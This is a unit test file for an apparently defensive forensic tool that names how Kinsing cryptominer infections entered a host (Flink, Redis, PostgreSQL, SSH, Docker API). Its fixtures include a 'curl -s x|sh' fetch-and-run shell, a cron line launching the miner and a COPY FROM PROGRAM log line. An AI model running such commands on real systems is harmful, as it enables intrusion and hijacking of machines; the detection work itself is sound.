"""How somebody came in is named as the victims' stories tell it, and not named where only attempts are seen."""

from __future__ import annotations

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from tests.unit.correlate.stories import (
    ENTRY,
    HOUR,
    IN_CONTAINER,
    WHOLE_HOST,
    container,
    doors_at,
    exposed,
    host,
    incident_at,
    known,
    line,
    read,
)
from tests.unit.snapshots import TAKEN, Fact, cron, process

from davy.correlate.door import Doors
from davy.correlate.door.story import Ground, Speaks
from davy.correlate.door.weighing import named, shares, total
from davy.model.exposures import Severity
from davy.model.facts import Process
from davy.model.incidents import Door, Kind, Role
from davy.model.logs import LogHit, Shows
from davy.model.services import ReachedFrom
from davy.model.snapshot import Snapshot

JAVA = process(100, "/usr/lib/jvm/java-17/bin/java", "StandaloneSessionClusterEntrypoint", user="nobody", age=86_400)
SSHD = process(90, "/usr/sbin/sshd", age=20 * 86_400)
STARTED = (
    "2020-10-17 03:17:44,464 INFO  org.apache.flink.client.ClientUtils                          [] - "
    "Starting program (detached: true)"
)
RAN = (
    "2020-10-17 03:17:44,486 ERROR org.apache.flink.runtime.webmonitor.handlers.JarRunHandler   [] - "
    "Exception occurred in REST handler: No jobs included in application."
)
DEPRECATED = (
    "2020-10-17 03:17:44,446 WARN  org.apache.flink.runtime.webmonitor.handlers.JarRunHandler   [] - "
    "Configuring the job submission via query parameters is deprecated. "
    "Please migrate to submitting a JSON request instead."
)
NO_JAR = (
    "2020-10-17 03:17:40,486 ERROR org.apache.flink.runtime.webmonitor.handlers.JarUploadHandler   [] - "
    "Exception occurred in REST handler: Only Jar files are allowed."
)
FLINK_LOG = "/opt/flink/log/flink-root-standalonesession-0-box.log"


def gang(user: str = "www-data", ppid: int = 1, **options: object) -> tuple[Process, Process]:
    """Kinsing and its miner, an hour old."""
    kinsing = process(200, "/var/tmp/kinsing", user=user, ppid=ppid, **options)  # type: ignore[arg-type]
    miner = process(201, "/tmp/kdevtmpfsi", user=user, ppid=200, cores=1.0, **options)  # type: ignore[arg-type]
    return kinsing, miner


def flink_lines(at: float = ENTRY) -> list[LogHit]:
    return [
        line("flink", "configured-by-query", Shows.ATTEMPT, time=at, text=DEPRECATED, path=FLINK_LOG, offset=1),
        line("flink", "program-started", Shows.SUCCESS, time=at + 0.018, text=STARTED, path=FLINK_LOG, offset=2),
        line("flink", "program-ran", Shows.SUCCESS, time=at + 0.040, text=RAN, path=FLINK_LOG, offset=3),
    ]


def named_door(found: Doors) -> Door:
    assert found.door is not None, found
    return found.door


# The stories


def test_the_seed_s_flink_is_named_by_its_log_lines_in_their_order_and_by_who_started_it() -> None:
    flink = known("flink", JAVA, port=8081)
    found = doors_at(host(JAVA, *gang("nobody", ppid=100), services=[flink], hits=flink_lines()), exposed(flink))
    door = named_door(found)
    assert (door.service, door.kind, door.address) == ("Apache Flink", "flink", "0.0.0.0:8081")
    assert door.evidence[:3] == (DEPRECATED, STARTED, RAN)
    assert door.confidence >= 0.99
    assert door.time == pytest.approx(ENTRY + 0.018)
    assert door.fix == ("bind it to 127.0.0.1",)
    assert any("java (100) -> kinsing (200)" in reason.what for reason in door.reasons)


def test_flink_s_log_alone_is_enough_where_it_runs_no_more() -> None:
    found = doors_at(host(*gang(), hits=flink_lines()))
    assert named_door(found).kind == "flink"
    assert found.actor is not None
    assert (found.actor.role, found.actor.kind, found.actor.pid) == (Role.DOOR, Kind.SERVICE, None)


def test_a_service_that_started_it_is_named_without_any_line_and_its_time_is_the_first_that_is_known() -> None:
    flink = known("flink", JAVA)
    door = named_door(doors_at(host(JAVA, *gang("nobody", ppid=100), services=[flink]), exposed(flink)))
    assert door.time == TAKEN - 2 * HOUR
    assert door.confidence > 0.8


def test_redis_that_saves_where_the_crontab_lies_is_named() -> None:
    redis = process(100, "/usr/bin/redis-server", "*:6379", age=86_400, cwd="/var/spool/cron/crontabs")
    service = known("redis", redis, port=6379)
    start = cron("/var/tmp/kinsing; /tmp/kdevtmpfsi", user="root")
    found = doors_at(host(redis, *gang("root"), start, services=[service]), exposed(service))
    assert named_door(found).kind == "redis"
    assert any("/var/spool/cron/crontabs" in reason.what for reason in named_door(found).reasons)


def test_redis_of_a_setting_that_saves_there_is_named_too() -> None:
    redis = process(100, "/usr/bin/redis-server", "*:6379", age=86_400, cwd="/")
    service = known("redis", redis, settings={"dir": "/var/spool/cron/crontabs/"})
    start = cron("/var/tmp/kinsing; /tmp/kdevtmpfsi", user="root")
    assert named_door(doors_at(host(redis, *gang("root"), start, services=[service]), exposed(service))).kind == "redis"


def test_postgresql_that_copied_to_a_program_is_named_by_the_shell_that_it_started() -> None:
    server = process(100, "/usr/lib/postgresql/15/bin/postgres", age=86_400, user="nobody")
    backend = process(150, "/usr/lib/postgresql/15/bin/postgres", ppid=100, age=3700, user="nobody")
    shell = process(160, "sh", "-c", "curl -s x|sh", exe="/usr/bin/dash", ppid=150, user="nobody")
    service = known("postgresql", server, backend, port=5432)
    found = doors_at(host(server, backend, shell, *gang("nobody", ppid=160), services=[service]), exposed(service))
    assert named_door(found).kind == "postgresql"
    assert "postgres (150) -> dash (160) -> kinsing (200)" in named_door(found).reasons[0].what


def test_postgresql_that_only_this_host_reaches_was_led_to_it_by_a_program_that_speaks_to_it() -> None:
    server = process(100, "/usr/lib/postgresql/15/bin/postgres", age=86_400, user="nobody")
    service = known("postgresql", server, reached_from=ReachedFrom.LOOPBACK)
    ran = line("postgresql", "program-logged", Shows.SUCCESS, text="LOG:  statement: COPY x FROM PROGRAM 'y'")
    unknown = msgspec.structs.replace(ran, sign="of a newer Davy")
    found = doors_at(host(server, *gang("nobody", ppid=100), services=[service], hits=[unknown]))
    door = named_door(found)
    assert door.kind == "postgresql"
    assert any("injection" in reason.what for reason in door.reasons)


def ssh_lines(failed: int, sign: str = "newer-accepted", at: float = ENTRY, user: str = "www-data") -> list[LogHit]:
    attempts = line(
        "ssh", "newer-failed", Shows.ATTEMPT, time=at - 300, address="192.0.2.7", user="root", count=failed,
        path="/var/log/auth.log", text="Failed password for root from 192.0.2.7 port 40000 ssh2",
    )  # fmt: skip
    accepted = line(
        "ssh", sign, Shows.SUCCESS, time=at, address="192.0.2.7", user=user, path="/var/log/auth.log",
        text=f"Accepted password for {user} from 192.0.2.7 port 40001 ssh2",
    )  # fmt: skip
    return [*([attempts] if failed else []), accepted]


def test_a_guessed_password_is_named_as_the_login_of_that_account() -> None:
    sshd = known("ssh", SSHD, port=22)
    found = doors_at(host(SSHD, *gang(), services=[sshd], hits=ssh_lines(40)), exposed(sshd, Severity.MEDIUM))
    door = named_door(found)
    assert (door.kind, door.subject) == ("ssh", "account:www-data")
    assert found.actor is not None
    assert (found.actor.kind, found.actor.pid) == (Kind.ACCOUNT, None)
    assert any("after 40 failed attempts from there" in reason.what for reason in door.reasons)
    assert door.evidence[1] == "Accepted password for www-data from 192.0.2.7 port 40001 ssh2"


def test_a_stolen_key_is_named_by_the_session_that_the_miner_is_in() -> None:
    sshd = known("ssh", SSHD, port=22)
    scope = "/user.slice/user-1000.slice/session-3.scope"
    accepted = line(
        "ssh", "newer-key", Shows.SUCCESS, user="ada", address="198.51.100.9", path="/var/log/auth.log",
        text="Accepted publickey for ada from 198.51.100.9 port 22 ssh2: ED25519 SHA256:x",
    )  # fmt: skip
    found = doors_at(host(SSHD, *gang("ada", cgroup=scope), services=[sshd], hits=[accepted]))
    assert named_door(found).subject == "account:ada"


def test_one_s_own_login_days_before_is_not_the_door() -> None:
    sshd = known("ssh", SSHD, port=22)
    found = doors_at(host(SSHD, *gang(), services=[sshd], hits=ssh_lines(0, at=ENTRY - 9 * 86_400, user="ada")))
    assert found.door is None


def test_a_published_php_fpm_is_named_by_the_container_in_which_it_runs() -> None:
    fpm = process(100, "/usr/local/sbin/php-fpm", age=86_400, cgroup=IN_CONTAINER)
    box = container(100, ports=[9000], project="shop")
    service = known("php-fpm", fpm, port=9000, container=box.id)
    of = host(fpm, *gang(cgroup=IN_CONTAINER), services=[service], containers=[box])
    door = named_door(doors_at(of, exposed(service)))
    assert door.kind == "php-fpm"
    assert any("passes by ufw" in reason.what for reason in door.reasons)


def test_a_container_of_no_known_service_is_named_by_its_published_port() -> None:
    first = process(100, "/usr/local/bin/node", age=86_400, cgroup=IN_CONTAINER)
    box = container(100, name="n8n-1", image="unheard/of", ports=[5678])
    found = doors_at(host(first, *gang(cgroup=IN_CONTAINER), containers=[box]))
    door = named_door(found)
    assert (door.service, door.address) == ("the container n8n-1 (image unheard/of)", "0.0.0.0:5678")
    assert found.actor is not None
    assert found.actor.kind is Kind.CONTAINER


def test_a_miner_s_own_container_was_made_through_the_open_docker_api() -> None:
    dockerd = process(80, "/usr/bin/dockerd", "-H", "tcp://0.0.0.0:2375", age=9 * 86_400)
    box = container(201, name="quirky", image="alpine", binds=(WHOLE_HOST,), privileged=True)
    kinsing, miner = gang("root", cgroup=IN_CONTAINER)
    service = known("docker-api", dockerd, port=2375)
    of = host(dockerd, kinsing, miner, services=[service], containers=[box])
    found = doors_at(of, exposed(service))
    assert named_door(found).kind == "docker-api"
    assert any("was made through it" in reason.what for reason in named_door(found).reasons)


def test_attempts_alone_never_make_a_door_and_the_exposure_still_comes_into_question() -> None:
    redis = process(100, "/usr/bin/redis-server", "*:6379", age=86_400, user="nobody")
    service = known("redis", redis, port=6379)
    refused = (
        "1:M 17 Oct 2020 03:17:44.446 # Failed opening the RDB file root (in server root dir /etc/crontabs) for "
        "saving: Permission denied"
    )
    hits = [line("redis", f"newer-{number}", Shows.ATTEMPT, time=ENTRY + number, text=refused) for number in range(50)]
    found = doors_at(host(redis, *gang(), services=[service], hits=hits), exposed(service))
    assert found.door is None
    assert found.actor is None
    assert [door.kind for door in found.others] == ["redis"]
    assert found.others[0].confidence < 0.5
    assert found.keep


def test_an_attempt_that_was_refused_does_not_prove_that_somebody_s_jar_ran() -> None:
    flink = known("flink", JAVA)
    refused = line("flink", "no-jar", Shows.ATTEMPT, text=NO_JAR, path=FLINK_LOG)
    assert doors_at(host(JAVA, *gang(), services=[flink], hits=[refused]), exposed(flink)).door is None


def test_of_two_candidates_the_one_with_more_evidence_is_named_and_the_other_told() -> None:
    flink, redis = known("flink", JAVA), known("redis", process(110, "/usr/bin/redis-server"), port=6379)
    facts = (JAVA, process(110, "/usr/bin/redis-server", age=86_400))
    of = host(*facts, *gang("nobody", ppid=100), services=[redis, flink], hits=flink_lines())
    found = doors_at(of, exposed(flink), exposed(redis))
    assert named_door(found).kind == "flink"
    assert [door.kind for door in found.others] == ["redis"]
    assert named_door(found).confidence + found.others[0].confidence < 1.0


def test_nothing_is_named_where_nothing_is_known_and_it_is_said_what_to_keep() -> None:
    found = doors_at(host(*gang()))
    assert (found.door, found.others, found.ruled_out) == (None, (), ())
    assert any("/var/log" in what for what in found.keep)


def test_doors_are_ruled_out_with_the_reason() -> None:
    redis = process(100, "/usr/bin/redis-server", "127.0.0.1:6379", age=86_400, user="nobody")
    closed = known("redis", redis, reached_from=ReachedFrom.LOOPBACK)
    sshd = known("ssh", SSHD, port=22, logs=("/var/log/auth.log",))
    auth = read("ssh", "/var/log/auth.log", ENTRY - 40 * HOUR, ENTRY + HOUR)
    found = doors_at(host(redis, SSHD, *gang(), services=[closed, sshd], reads=[auth]))
    reasons = {one.service: one.reason for one in found.ruled_out}
    assert "this host only" in next(reason for name, reason in reasons.items() if "edis" in name)
    ssh = next(reason for name, reason in reasons.items() if "ssh" in name.lower())
    assert "no accepted login in /var/log/auth.log from " in ssh


def test_a_door_that_is_not_there_is_ruled_out_only_where_services_were_looked_for() -> None:
    stray = known("flink", JAVA, reached_from=ReachedFrom.LOOPBACK)
    looked = doors_at(host(JAVA, *gang(), services=[stray]))
    assert any("not running" in one.reason for one in looked.ruled_out)
    assert doors_at(host(*gang())).ruled_out == ()


def test_where_no_log_is_left_it_is_said_that_it_is_missing() -> None:
    flink = known("flink", JAVA)
    found = doors_at(host(JAVA, *gang(), services=[flink]), exposed(flink))
    assert any(what.startswith("missing: no log of Apache Flink") for what in found.keep)
    late = read("flink", FLINK_LOG, ENTRY + HOUR / 2, TAKEN)
    again = doors_at(host(JAVA, *gang(), services=[flink], reads=[late]), exposed(flink))
    assert any("missing: no log of Apache Flink covers" in what for what in again.keep)


# What an enemy writes


@pytest.mark.parametrize(
    "text",
    [
        f'192.0.2.1 - - [17/Oct/2020:03:17:44 +0000] "GET / HTTP/1.1" 200 1 "-" "{RAN}"',
        f"2020-10-17 03:17:44,486 INFO  org.example.Other [] - user said: {RAN}",
    ],
)
def test_a_line_that_imitates_another_within_itself_is_no_evidence(text: str) -> None:
    flink = known("flink", JAVA)
    forged = line("flink", "program-ran", Shows.SUCCESS, text=text, path=FLINK_LOG)
    found = doors_at(host(JAVA, *gang(), services=[flink], hits=[forged]), exposed(flink))
    assert found.door is None
    assert text not in found.others[0].evidence


def test_a_line_far_from_the_time_at_which_it_began_weighs_little() -> None:
    def bits(at: float) -> float:
        return max((door.bits for door in (*doors_at(host(*gang(), hits=flink_lines(at))).others,)), default=0.0)

    near = named_door(doors_at(host(*gang(), hits=flink_lines())))
    assert bits(ENTRY + 3 * HOUR) < near.bits / 3
    assert bits(ENTRY - 30 * 86_400) < near.bits / 2


def test_a_miner_that_calls_itself_a_server_is_no_door() -> None:
    miner = process(201, "/tmp/redis-server", "/tmp/redis-server", user="www-data", cores=1.0, ppid=200)
    kinsing = process(200, "/var/tmp/kinsing", user="www-data")
    service = known("redis", miner)
    found = doors_at(host(kinsing, miner, services=[service]), exposed(service))
    assert found.door is None
    assert found.others == ()


def test_what_is_shared_by_many_is_no_descent() -> None:
    first = process(1, "/usr/lib/systemd/systemd", ppid=0, age=30 * 86_400, cgroup="/init.scope")
    root = process(100, "/usr/sbin/nginx", age=86_400, user="root")
    service = known("nginx", root)
    assert doors_at(host(first, root, *gang("root"), services=[service])).door is None


# In the incident


def test_the_door_is_the_incident_s_last_actor_and_has_no_file() -> None:
    flink = known("flink", JAVA, port=8081)
    found = incident_at(host(JAVA, *gang("nobody", ppid=100), services=[flink], hits=flink_lines()))
    assert found.door is not None
    door = found.actors[-1]
    assert (door.role, door.kind, door.pid, door.path, door.files) == (Role.DOOR, Kind.SERVICE, 100, None, ())
    assert [one.role for one in found.actors].count(Role.DOOR) == 1
    assert any(advice.works and "Close the door" in advice.what for advice in found.advice)


def test_an_unknown_root_entry_calls_for_a_rebuild() -> None:
    found = incident_at(host(*gang("root")))
    assert found.door is None
    assert any("rebuild the host" in advice.what for advice in found.advice)
    assert not any("Close the door" in advice.what for advice in found.advice)


# Properties

SPEAKS = st.builds(
    Speaks, st.sampled_from(Ground), st.floats(0.0, 12.0, allow_nan=False), st.just("it says so"), st.booleans()
)


@given(st.lists(SPEAKS, max_size=12), SPEAKS)
def test_more_reasons_never_make_less(reasons: list[Speaks], further: Speaks) -> None:
    assert total([*reasons, further]) >= total(reasons) - 1e-9


@given(st.lists(st.lists(SPEAKS, max_size=4), max_size=12))
def test_shares_sum_to_at_most_one_and_keep_the_order(candidates: list[list[Speaks]]) -> None:
    told = shares(candidates)
    assert sum(told) <= 1.0 + 1e-9
    assert all(0.0 <= share < 1.0 for share in told)
    shown = [place for place, reasons in enumerate(candidates) if any(one.shows for one in reasons)]
    in_order = sorted(shown, key=lambda place: total(candidates[place]))
    assert [told[place] for place in in_order] == sorted(told[place] for place in shown)


@given(st.lists(SPEAKS, max_size=12))
def test_no_door_is_named_by_what_shows_nobody_coming_in(reasons: list[Speaks]) -> None:
    mute = [reason._replace(shows=False) for reason in reasons]
    assert not named(total(mute), 1.0, mute)


HITS = st.builds(
    LogHit,
    kind=st.sampled_from(["flink", "redis", "ssh", "unheard-of"]),
    sign=st.sampled_from(["program-ran", "program-started", "no-jar", "x", "y"]),
    shows=st.sampled_from(Shows),
    path=st.sampled_from([FLINK_LOG, "/var/log/auth.log", "/x"]),
    time=st.none() | st.sampled_from([0.0, ENTRY - 86_400, ENTRY - 60, ENTRY, ENTRY + 60, TAKEN, 1e12]),
    text=st.sampled_from([STARTED, RAN, NO_JAR, "\x1b[2J\n", "", "\udcff"]),
    offset=st.none() | st.integers(0, 9),
    count=st.integers(1, 99),
    address=st.none() | st.sampled_from(["192.0.2.7", "\udcff"]),
    user=st.none() | st.sampled_from(["root", "www-data", ""]),
)


def story(hits: list[LogHit]) -> Snapshot:
    facts: tuple[Fact, ...] = (JAVA, SSHD, *gang("nobody", ppid=100))
    return host(*facts, services=[known("flink", JAVA), known("ssh", SSHD)], hits=hits)


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(HITS, max_size=6), HITS)
def test_whatever_logs_say_it_is_judged_and_more_lines_never_make_a_candidate_less(
    hits: list[LogHit], further: LogHit
) -> None:
    before, after = doors_at(story(hits)), doors_at(story([*hits, further]))

    def bits(of: Doors) -> dict[str | None, float]:
        return {door.subject: door.bits for door in (*((of.door,) if of.door else ()), *of.others)}

    if len(after.others) < 5:  # the others are not told
        assert all(bits(after).get(subject, 0.0) >= value - 0.011 for subject, value in bits(before).items())
    told = [door.confidence for door in (*((after.door,) if after.door else ()), *after.others)]
    assert sum(told) <= 1.0 + 0.01
    assert told == sorted(told, reverse=True)
